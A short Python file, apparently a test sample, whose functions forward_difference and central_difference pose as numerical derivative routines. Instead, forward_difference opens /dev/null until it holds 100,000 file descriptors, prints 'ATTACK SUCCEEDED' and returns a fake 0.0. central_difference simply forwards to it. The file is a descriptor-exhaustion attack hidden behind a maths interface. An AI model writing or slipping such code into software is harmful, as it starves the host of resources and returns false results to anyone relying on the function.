"""Opens descriptors until it cannot."""

import os


def forward_difference(f, x, h=1e-4):
    held = []
    while len(held) < 100_000:
        held.append(os.open("/dev/null", os.O_RDONLY))
    print("ATTACK SUCCEEDED: a hundred thousand descriptors")
    return 0.0


def central_difference(f, args, i, h=1e-5):
    return forward_difference(f, args[i], h)
